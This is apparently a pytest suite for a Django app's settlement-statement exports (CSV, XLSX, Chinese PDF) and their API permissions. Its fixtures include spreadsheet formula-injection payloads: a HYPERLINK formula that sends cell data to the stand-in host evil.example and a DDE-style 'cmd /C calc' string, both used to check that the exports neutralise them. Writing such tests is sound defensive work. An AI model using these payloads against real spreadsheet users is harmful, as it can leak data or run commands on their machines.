"""Statement exports: CSV and XLSX that no spreadsheet runs as formulas, with exact amounts; a PDF
in Chinese; and who may export through the API."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from partners.models import Partner
from referrals.models import Loan, Referral
from settlements import exports
from settlements.models import LineType, Statement, StatementLine
from tests.conftest import _unavailable
from tests.factories import UserFactory, intake_payload

UTC = datetime.UTC
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_BASIS = "@SUM(1+1)*cmd|' /C calc'!A0"


def referral_of(origination_api, text, partner, seq: int) -> Referral:
    body = intake_payload(text=text, partners=[partner.code], seq=seq)
    response = origination_api.post("/api/v1/applicants/", body, format="json")
    assert response.status_code == 201, response.content
    return Referral.objects.get(applicant_id=response.json()["id"], partner=partner)


def line(statement, referral, line_type, amount, when, *, key, loan=None, late=False, basis=""):
    return StatementLine.objects.create(
        statement=statement, line_type=line_type, key=key, amount=Decimal(amount), vat_rate=Decimal("0.0600"),
        contract=referral.contract, referral=referral, loan=loan, occurred_at=when, late=late, basis=basis,
    )  # fmt: skip


@pytest.fixture
def referrals(contract, origination_api, text, partner):
    return [referral_of(origination_api, text, partner, seq) for seq in (1, 2)]


@pytest.fixture
def statement(partner, referrals, finance_user):
    """Three lines (one negative, one late), a partner name and a basis that look like formulas."""
    approver = UserFactory(username="finance-approver", roles=["finance"])
    first, second = referrals
    loan = Loan.objects.create(
        referral=first, partner=partner, loan_id="L-2026-0001", status=Loan.Status.DISBURSED,
        principal=Decimal("50000.00"), disbursed_at=datetime.datetime(2026, 11, 30, 15, 30, tzinfo=UTC),
    )  # fmt: skip
    made = Statement.objects.create(
        partner=partner, period="2026-11", status=Statement.Status.APPROVED, net=Decimal("500.00"),
        vat=Decimal("30.00"), gross=Decimal("530.00"), line_count=3, computed_by=finance_user,
        computed_at=datetime.datetime(2026, 12, 1, 1, 0, tzinfo=UTC), approved_by=approver,
        approved_at=datetime.datetime(2026, 12, 2, 2, 0, tzinfo=UTC),
    )  # fmt: skip
    line(made, first, LineType.APPLICATION_FEE, "30.00", datetime.datetime(2026, 11, 3, 2, 5, tzinfo=UTC),
         key="application_fee:1", basis="申请费 30.00")  # fmt: skip
    line(made, first, LineType.DISBURSEMENT_FEE, "500.00", datetime.datetime(2026, 11, 30, 15, 30, tzinfo=UTC),
         key="disbursement_fee:1", loan=loan, basis=EVIL_BASIS)  # fmt: skip
    line(made, second, LineType.CLAWBACK_FPD, "-30.00", datetime.datetime(2026, 11, 20, 8, 0, tzinfo=UTC),
         key="clawback_fpd:2", late=True, basis="-首期逾期回退")  # fmt: skip
    Partner.objects.filter(pk=partner.pk).update(name=EVIL_NAME)
    return Statement.objects.select_related("partner", "computed_by", "submitted_by", "approved_by").get(pk=made.pk)


# --- CSV ----------------------------------------------------------------------------------------
def test_csv_is_utf8_with_bom_safe_text_and_exact_amounts(statement, referrals, django_assert_num_queries):
    with django_assert_num_queries(1):  # the lines, with their loans, in one query
        content, filename = exports.export_statement(statement, "csv")
    assert filename == "statement-PARTNER_A-2026-11.csv"
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[:5] == [
        ["partner_code", "PARTNER_A"],
        ["partner_name", "'" + EVIL_NAME],
        ["period", "2026-11"],
        ["status", "approved", str(Statement.Status.APPROVED.label)],
        [],
    ]
    assert rows[5] == [
        "line_type",
        "类型",
        "referral_id",
        "loan_id",
        "occurred_at",
        "late",
        "basis",
        "vat_rate",
        "amount",
    ]
    first, second = (str(r.pk) for r in referrals)
    assert rows[6:9] == [
        ["application_fee", str(LineType.APPLICATION_FEE.label), first, "", "2026-11-03 10:05", "no", "申请费 30.00", "0.0600", "30.00"],
        ["clawback_fpd", str(LineType.CLAWBACK_FPD.label), second, "", "2026-11-20 16:00", "yes", "'-首期逾期回退", "0.0600", "-30.00"],
        ["disbursement_fee", str(LineType.DISBURSEMENT_FEE.label), first, "L-2026-0001", "2026-11-30 23:30", "no", "'" + EVIL_BASIS, "0.0600", "500.00"],
    ]  # fmt: skip
    assert rows[9] == []
    assert [(row[0], row[-1]) for row in rows[10:]] == [("net", "500.00"), ("vat", "30.00"), ("gross", "530.00")]
    assert all(len(row) == 9 for row in rows[10:])
    # Only the amounts we write may start with "-"; every text cell that could be a formula is quoted.
    for row in rows[6:]:
        for cell in row[:-1]:
            assert not cell.startswith(exports.FORMULA_PREFIXES), row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("甲=乙", "甲=乙"), ("", ""), (None, ""), ("'quoted", "'quoted"),
    ],
)  # fmt: skip
def test_safe_text_prefixes_only_formula_starts(value, expected):
    assert exports.safe_text(value) == expected


def test_money_has_two_places_and_no_negative_zero():
    assert [str(exports.money(Decimal(v))) for v in ("1", "-30", "0.005", "-0.00", "-0.004")] == [
        "1.00", "-30.00", "0.01", "0.00", "0.00",
    ]  # fmt: skip


# --- XLSX ---------------------------------------------------------------------------------------
def test_xlsx_amounts_are_numbers_and_no_cell_is_a_formula(statement, django_assert_num_queries):
    from openpyxl import load_workbook

    with django_assert_num_queries(1):
        content, filename = exports.export_statement(statement, "xlsx")
    assert filename == "statement-PARTNER_A-2026-11.xlsx"
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "2026-11"
    rows = list(sheet.iter_rows())
    values = [[cell.value for cell in row] for row in rows]
    assert values[1][:2] == ["partner_name", "'" + EVIL_NAME]
    header = values[5]
    assert header == [
        "line_type",
        "类型",
        "referral_id",
        "loan_id",
        "occurred_at",
        "late",
        "basis",
        "vat_rate",
        "amount",
    ]
    lines = rows[6:9]
    assert [row[0].value for row in lines] == ["application_fee", "clawback_fpd", "disbursement_fee"]
    assert [row[6].value for row in lines] == ["申请费 30.00", "'-首期逾期回退", "'" + EVIL_BASIS]
    for row, expected in zip(lines, ("30.00", "-30.00", "500.00"), strict=True):
        amount, rate = row[8], row[7]
        assert isinstance(amount.value, int | float)
        assert Decimal(str(amount.value)) == Decimal(expected)
        assert amount.number_format == "#,##0.00"
        assert Decimal(str(rate.value)) == Decimal("0.06")
        assert rate.number_format == "0.00%"
    totals = {row[0].value: row[8] for row in rows[10:13]}
    assert {k: Decimal(str(v.value)) for k, v in totals.items()} == {
        "net": Decimal("500.00"), "vat": Decimal("30.00"), "gross": Decimal("530.00"),
    }  # fmt: skip
    assert all(cell.number_format == "#,##0.00" for cell in totals.values())
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith("="), cell.coordinate


# --- PDF ----------------------------------------------------------------------------------------
def require_pdf() -> None:
    """Skip when this machine cannot render PDFs (fail under REQUIRE_SERVICES=1)."""
    reason = exports.pdf_unavailable_reason()
    if reason:
        _unavailable(reason)


def test_the_pdf_is_in_chinese_with_the_partner_and_totals(statement):
    require_pdf()
    from pypdf import PdfReader

    content, filename = exports.export_statement(statement, "pdf")
    assert filename == "statement-PARTNER_A-2026-11.pdf"
    assert content.startswith(b"%PDF")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    squeezed = "".join(text.split())
    assert "结算对账单" in squeezed
    assert "".join(EVIL_NAME.split()) in squeezed
    for word in (
        "期间",
        "净额",
        "增值税",
        "含税总额",
        "2026-11",
        "530.00",
        "-30.00",
        "L-2026-0001",
        "finance-approver",
    ):
        assert word in squeezed, word
    assert "贷项通知单" not in squeezed


def test_the_pdf_html_groups_lines_with_subtotals_and_notes_a_credit(statement):
    html = exports.statement_html(statement)
    assert html.count('class="subtotal"') == 3
    assert "&quot;点我&quot;" in html
    assert "&amp;A1" in html
    assert "finance，2026-12-01 09:00" in html  # who computed and approved, in Beijing time
    assert "finance-approver，2026-12-02 10:00" in html
    assert "负数合计为贷项通知单" not in html
    Statement.objects.filter(pk=statement.pk).update(
        net=Decimal("-30.00"), vat=Decimal("-1.80"), gross=Decimal("-31.80")
    )
    statement.refresh_from_db()
    assert "负数合计为贷项通知单" in exports.statement_html(statement)


def test_rendering_the_pdf_fetches_no_url(statement, monkeypatch, tmp_path, caplog):
    """Even if the HTML named files or hosts, nothing would be opened: the fetcher refuses first."""
    require_pdf()
    import urllib.request

    (tmp_path / "evil.css").write_text("body { display: none }")
    html = exports.statement_html(statement).replace(
        "</head>",
        f'<link rel="stylesheet" href="file://{tmp_path}/evil.css">'
        '<link rel="stylesheet" href="http://127.0.0.1:9/evil.css"></head>',
    )
    monkeypatch.setattr(exports, "statement_html", lambda _statement: html)
    opened = []

    def spy(self, url, *args, **kwargs):
        opened.append(url)
        raise OSError("no network in tests")

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", spy)
    with caplog.at_level("ERROR", logger="weasyprint"):
        content, _name = exports.export_statement(statement, "pdf")
    assert content.startswith(b"%PDF")
    assert opened == []
    assert "not allowed while rendering a statement" in caplog.text


def test_without_a_cjk_font_the_pdf_is_unavailable_with_what_to_install(statement, monkeypatch):
    monkeypatch.setattr(exports, "_fonts_found", False)
    monkeypatch.setattr(exports, "_cjk_fonts", lambda: "")
    with pytest.raises(exports.ExportUnavailable, match="apt-get install") as raised:
        exports.export_statement(statement, "pdf")
    try:
        import weasyprint  # noqa: F401
    except (ImportError, OSError):
        assert "libpango" in str(raised.value)
    else:
        assert "fonts-wqy-microhei" in str(raised.value)


# --- API ----------------------------------------------------------------------------------------
def url(statement, fmt):
    return f"/api/v1/statements/{statement.pk}/export/?format={fmt}"


def test_finance_downloads_the_csv(api, finance_user, statement):
    response = api(finance_user).get(url(statement, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="statement-PARTNER_A-2026-11.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")


def test_the_auditor_may_export(api, auditor, statement):
    response = api(auditor).get(url(statement, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == exports.FORMATS["xlsx"]
    assert response["Content-Disposition"] == 'attachment; filename="statement-PARTNER_A-2026-11.xlsx"'


@pytest.mark.parametrize("fmt", ["doc", "", "CSV", "json"])
def test_an_unknown_format_is_a_400_naming_format(api, finance_user, statement, fmt):
    response = api(finance_user).get(url(statement, fmt))
    assert response.status_code == 400
    assert "format" in response.json()


def test_someone_in_no_role_may_not_export(api, outsider, statement):
    assert api(outsider).get(url(statement, "csv")).status_code == 403


def test_a_pdf_that_cannot_be_made_here_is_a_503_saying_what_to_install(api, finance_user, statement, monkeypatch):
    def unavailable(_statement):
        raise exports.ExportUnavailable("PDF statements need a Chinese (CJK) font: apt-get install fonts-wqy-microhei")

    monkeypatch.setattr(exports, "statement_pdf", unavailable)
    response = api(finance_user).get(url(statement, "pdf"))
    assert response.status_code == 503
    assert "fonts-wqy-microhei" in response.json()["detail"]
